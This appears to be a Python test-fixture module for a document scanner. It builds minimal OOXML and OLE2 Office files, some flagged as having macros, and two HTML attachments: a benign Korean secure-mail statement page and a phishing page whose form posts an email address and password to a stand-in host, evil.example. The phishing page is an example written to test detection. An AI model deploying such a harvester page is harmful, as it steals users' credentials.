"""Small real Office files built in memory for the document tests: OOXML zips and OLE2 compound files; and two
web pages sent as attachments: a 보안메일 statement that sends nothing and a log-in page that posts elsewhere."""

from __future__ import annotations

import base64
import io
import struct
import zipfile

_END = 0xFFFFFFFE
_FREE = 0xFFFFFFFF
_NONE = 0xFFFFFFFF


def ooxml(*, macros: bool, main: str = "xl/workbook.xml") -> bytes:
    """A minimal spreadsheet zip, with xl/vbaProject.bin when `macros`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(main, '<?xml version="1.0"?><workbook/>')
        if macros:
            archive.writestr(main.split("/")[0] + "/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 508)
    return buffer.getvalue()


def _entry(name: str, kind: int, child: int = _NONE, right: int = _NONE) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBB", len(encoded), kind, 1)
        + struct.pack("<III", _NONE, right, child)
        + b"\0" * 16
        + b"\0" * 4
        + b"\0" * 16
        + struct.pack("<IQ", _END, 0)
    )


def ole(*storages: tuple[str, ...]) -> bytes:
    """An OLE2 compound file (version 3, 512-byte sectors) whose root holds the nested storages given, each
    path's last element an empty stream: ole(("Macros", "VBA", "_VBA_PROJECT")) is a .doc with macros."""
    entries: list[bytes] = [b""]  # the root, filled in last
    root_children: list[int] = []
    for path in storages:
        first = len(entries)
        for depth, name in enumerate(path):
            last = depth == len(path) - 1
            entries.append(_entry(name, 2 if last else 1, _NONE if last else len(entries) + 1))
        root_children.append(first)
    for before, after in zip(root_children, root_children[1:]):  # siblings chained to the right
        entry = bytearray(entries[before])
        entry[72:76] = struct.pack("<I", after)
        entries[before] = bytes(entry)
    entries[0] = _entry("Root Entry", 5, root_children[0] if root_children else _NONE)
    while len(entries) % 4:
        entries.append(
            b"\0" * 64
            + struct.pack("<HBB", 0, 0, 0)
            + struct.pack("<III", _NONE, _NONE, _NONE)
            + b"\0" * 44
            + struct.pack("<IQ", 0, 0)
        )
    directory = b"".join(entries)
    dir_sectors = len(directory) // 512
    fat = [0xFFFFFFFD] + [i + 1 for i in range(1, dir_sectors)] + [_END]
    fat_sector = struct.pack(f"<{len(fat)}I", *fat) + struct.pack("<I", _FREE) * (128 - len(fat))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIII", 0, 1, 1, 0)
        + struct.pack("<IIIII", 4096, _END, 0, _END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", _FREE) * 108
    )
    assert len(header) == 512
    return header + fat_sector + directory


# A Korean 보안메일: the statement travels encrypted in the page and a script decrypts it in the browser once the
# reader types a birth date or a business number. Nothing is sent anywhere.
SECURE_STATEMENT = (
    '<html><head><meta charset="utf-8"><title>보안메일</title></head><body>'
    "<p>사업자등록번호 10자리를 입력하세요.</p>"
    '<input type="password" id="k" maxlength="10"><button onclick="openStatement()">확인</button>'
    '<div id="doc"></div><script>var sealed="' + base64.b64encode(bytes(range(256)) * 8).decode() + '";'
    "function openStatement(){var key=document.getElementById('k').value;"
    "document.getElementById('doc').innerHTML=decrypt(atob(sealed),key);}</script></body></html>"
)
# The same kind of page as a credential harvester: what is typed goes to another server.
HARVESTER = (
    "<html><body><p>Enter your mailbox password to view the invoice.</p>"
    '<form method="POST" action="http://evil.example/login.php"><input name="email">'
    '<input type="password" name="pass"><button>View</button></form>'
    "<script>document.forms[0].pass.focus();</script></body></html>"
)
